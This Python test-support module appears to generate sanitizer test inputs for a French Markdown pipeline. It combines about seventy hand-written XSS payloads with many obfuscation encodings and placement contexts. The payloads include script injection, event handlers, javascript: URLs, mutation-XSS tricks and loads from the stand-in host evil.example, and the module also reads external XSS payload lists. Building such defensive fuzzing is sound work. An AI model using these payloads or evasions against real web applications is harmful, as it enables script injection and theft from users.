"""The vectors: each payload, in each writing, at each place of a text. More payloads are read from the material, where it is at hand."""

import html
import json
import random
import re
from collections.abc import Callable, Iterator

from tests.material import material

HEAD = "---\ntitle: T\ncommission: C\nchapter: 1\nlanguage: fr\n---\n\n"
RUN = "ran(1)"
ELSEWHERE = "//evil.example/x"

# What would run, load, send or lead away.
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<script src={ELSEWHERE}></script>",
    f"<script\x0c>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{ELSEWHERE}">',
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video src=x onerror={RUN}></video>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f"<object data={ELSEWHERE}></object>",
    f"<embed src={ELSEWHERE}>",
    f'<link rel=stylesheet href="{ELSEWHERE}">',
    f"<style>@import '{ELSEWHERE}';</style>",
    f'<p style="background:url({ELSEWHERE})">x</p>',
    f'<base href="{ELSEWHERE}">',
    f'<meta http-equiv=refresh content="0;url={ELSEWHERE}">',
    f"<meta http-equiv='refresh' content='0;javascript:{RUN}'>",
    f"<!--x><script>{RUN}</script>-->",
    f'<!--"><script>{RUN}</script>-->',
    f"<!--'><img src=x onerror={RUN}>-->",
    f'<!--x><meta http-equiv=refresh content="0;url={ELSEWHERE}">-->',
    f'<!--"><meta http-equiv=refresh content=0;url={ELSEWHERE}>-->',
    f"<!--[if]><script>{RUN}</script>-->",
    f"<!--><script>{RUN}</script>-->",
    f"<!--->{RUN}<img src=x onerror={RUN}>-->",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"<?x ><script>{RUN}</script>?>",
    f"<!x ><script>{RUN}</script>>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"><script>{RUN}</script>",
    f'" onmouseover={RUN} x="',
    f"' autofocus onfocus={RUN} '",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</td></tr></table><script>{RUN}</script>",
    f"</li></ul><img src=x onerror={RUN}>",
    f"</p></div><svg onload={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f'<math><mi><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;"></style></mglyph></mi></math>',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<select><iframe srcdoc='<script>parent.{RUN}</script>'></select>",
    f"<table><caption><script>{RUN}</script></caption></table>",
    f"<plaintext><script>{RUN}</script>",
    f"<xmp><script>{RUN}</script></xmp>",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{RUN}//'>",
    f"view-source:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    f"blob:javascript:{RUN}",
    f'//evil.example" onclick="{RUN}',
    f'x" style="animation:x" onanimationstart="{RUN}',
    f'rtl"><script>{RUN}</script>',
    f"2' onload={RUN} '",
    f"{{: onclick={RUN} }}",
)

# Where it stands. {} is the payload.
PLACES = (
    "Mot {} mot.",
    "# Titre {}",
    "## Axe 1 — {}",
    "- {}\n- b",
    "- a\n    - {}",
    "1. {}",
    "> {}",
    "{}",
    "Terme\n:   {}",
    "| a | b |\n|---|---|\n| {} | c |",
    "| {} | b |\n|---|---|\n| a | c |",
    "Voir[^1].\n\n[^1]: {}",
    "*{}* **{}**",
    "`{}`",
    "    {}",
    "```{}\nx\n```",
    "[mot]({})",
    "[mot](<{}>)",
    "[mot][1]\n\n[1]: {}",
    '[mot](https://a.example "{}")',
    "<{}>",
    "![{}](x)",
    "![mot]({})",
    'Mot\n{{: #C1-x title="{}" dir={} }}',
    "# T {{#{}}}",
    '<div markdown="1" title="{}">\nMot {}\n</div>',
    "<div markdown='1'>\n\n{}\n\n</div>",
    '<ul><li title="{}">mot</li></ul>',
    '<ul dir="{}" lang="{}"><li>Action 1.1.1 mot</li><li>b</li></ul>',
    "<ul><li title='{}'>Action 1.1.1 : mot</li></ul>",
    "<ul><li title={}>Action 1.1.2 mot</li></ul>",
    '<table><tr title="{}"><td>mot</td></tr></table>',
    "<table><tr><td title='{}'>mot</td><td>{}</td></tr></table>",
    '<table dir="{}"><caption title="{}">{}</caption><tr><td colspan="{}">mot</td></tr></table>',
    '<ol start="{}"><li value="{}">mot</li></ol>',
    '<p title="{}">mot</p>',
    "<p id='{}' class='{}'>mot</p>",
    '<a href="{}">mot</a>',
    "<a href='{}'>mot</a>",
    "<a href={}>mot</a>",
    '<ul><li><a href="{}" title="{}">mot</a></li></ul>',
    '<details><summary title="{}">{}</summary>mot {}</details>',
    '<p hidden>mot</p><p title="{}" style="color:{}">mot</p>',
    "<pre title='{}'>\n{}</pre>",
    "<!-- {} --> mot",
    'mot <b title="<!--{}">x</b> {}',
    '<blockquote cite="{}"><p>{}</p></blockquote>',
    "<section id='C1-a'><h2 title=\"{}\">{}</h2></section>",
    "mot &lt;{}",
    "mot <x {}> mot",
)


def entities(text: str) -> str:
    return "".join(f"&#{ord(sign)};" for sign in text)


def within_word(sign: str) -> Callable[[str], str]:
    """The names that a browser knows, with this sign in each."""
    return lambda text: re.sub(r"(?i)(java|s|d|on|htt|c|i)(script|vg|ata|error|load|p-equiv|ript|mg)", rf"\1{sign}\2", text)


WRITINGS: dict[str, Callable[[str], str]] = {
    "plain": lambda text: text,
    "entities": entities,
    "hexadecimal": lambda text: "".join(f"&#x{ord(sign):X};" for sign in text),
    "unclosed": lambda text: "".join(f"&#{ord(sign):07d}" for sign in text),
    "named": html.escape,
    "twice": lambda text: html.escape(html.escape(text)),
    "upper": str.upper,
    "percent": lambda text: text.replace(":", "%3A").replace("<", "%3C"),
    "backslash": lambda text: re.sub(r"([<>:\"'(])", r"\\\1", text),
    "control": within_word("&#1;"),
    "delete": within_word("&#127;"),
    "turned": within_word("&#x202e;"),
    "isolate": within_word("&#x2068;"),
    "tab": within_word("&Tab;"),
    "line": within_word("&NewLine;"),
    "null": within_word("&#0;"),
    "next line": within_word("&#x85;"),
    "soft": within_word("&shy;"),
    "unseen": within_word("\u200b"),
    "raw turned": within_word("\u202c"),
    "unit": within_word("\x1f"),
    "noncharacter": within_word("&#xfffe;"),
    "wide": lambda text: text.translate(WIDE),
    "control first": lambda text: f"&#1;{text}",
    "line end": lambda text: text.replace(" ", "\n"),
    "slash": lambda text: text.replace(" ", "/"),
}
WIDE = {ord(sign): ord(sign) + 0xFEE0 for sign in "<>\"'=():/"}


def payloads() -> list[str]:
    """Ours, then those that others gathered, in an order that lasts."""
    more: list[str] = []
    if lines := material("hostile-input/payloadbox_xss.txt"):
        more += lines.read_text(errors="replace").splitlines()
    if naughty := material("hostile-input/blns.json"):
        more += json.loads(naughty.read_text())
    kept = [
        re.sub(r"\b(?:alert|prompt|confirm)\s*(?:\(|`)[^)`]*[)`]", RUN, text.strip()) for text in more if text.strip() and "\n" not in text
    ]
    return [*PAYLOADS, *dict.fromkeys(kept)]


def put(payload: str, place: str) -> str:
    return HEAD + "Avant.\n\n" + place.replace("{}", payload).replace("{{", "{").replace("}}", "}") + "\n\nAprès.\n"


def ours() -> Iterator[str]:
    for payload in PAYLOADS:
        for writing in WRITINGS.values():
            written = writing(payload)
            yield from (put(written, place) for place in PLACES)


def collected() -> Iterator[str]:
    """Each that others gathered, at three places and in two writings."""
    draw = random.Random(16)  # noqa: S311 - the same each time
    for payload in payloads()[len(PAYLOADS) :]:
        for place in draw.sample(PLACES, 3):
            yield put(payload, place)
        yield put(draw.choice(list(WRITINGS.values()))(payload), draw.choice(PLACES))


def sample(count: int) -> list[str]:
    """Some of each, the same each time."""
    whole = [*ours(), *collected()]
    return random.Random(count).sample(whole, count)  # noqa: S311 - the same each time
